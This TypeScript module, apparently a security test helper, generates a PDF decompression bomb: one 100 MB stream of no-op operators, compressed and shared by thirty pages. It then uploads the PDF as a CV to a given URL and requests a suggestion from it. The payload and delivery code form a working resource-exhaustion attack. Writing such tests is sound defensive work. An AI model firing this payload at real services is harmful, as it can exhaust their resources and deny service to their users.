import { deflateSync } from "node:zlib";

const pages = 30;
const unpackedBytes = 100e6;

/** Thirty pages that share one huge stream of no-op operators. */
function slowCv(): Buffer {
  const stream = deflateSync("q Q ".repeat(unpackedBytes / 4));
  const kids = Array.from({ length: pages }, (_, page) => page + 4);
  const head = [
    "%PDF-1.4",
    "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj",
    `2 0 obj << /Type /Pages /Kids [${kids.map((kid) => `${kid} 0 R`).join(" ")}] /Count ${pages} >> endobj`,
    ...kids.map(
      (kid) => `${kid} 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >> endobj`,
    ),
    `3 0 obj << /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`,
  ].join("\n");
  const tail = "\nendstream endobj\ntrailer << /Size 100 /Root 1 0 R >>\n%%EOF\n";
  return Buffer.concat([Buffer.from(head), stream, Buffer.from(tail)]);
}

/** A multipart form, encoded once: a real attacker's work runs on another machine. */
interface Form {
  readonly type: string;
  readonly body: ArrayBuffer;
}

export async function formOfSlowCv(): Promise<Form> {
  const form = new FormData();
  form.set("file", new Blob([new Uint8Array(slowCv())], { type: "application/pdf" }), "slow.pdf");
  const written = new Response(form);
  return { type: written.headers.get("content-type") ?? "", body: await written.arrayBuffer() };
}

/** Resolves with the last status. */
export async function askWithCv(
  { type, body }: Form,
  url: string,
  headers: Readonly<Record<string, string>>,
  signal: AbortSignal,
): Promise<string> {
  const form = { ...headers, "content-type": type };
  const sent = await fetch(url, { method: "POST", body, headers: form, signal });
  if (!sent.ok) return `upload ${sent.status}`;
  const { id, token } = (await sent.json()) as { id: string; token: string };
  const authorization = `Bearer ${token}`;
  const asked = await fetch(`${url}/${id}/suggestion`, { headers: { ...headers, authorization }, signal });
  await asked.arrayBuffer();
  return `suggestion ${asked.status}`;
}
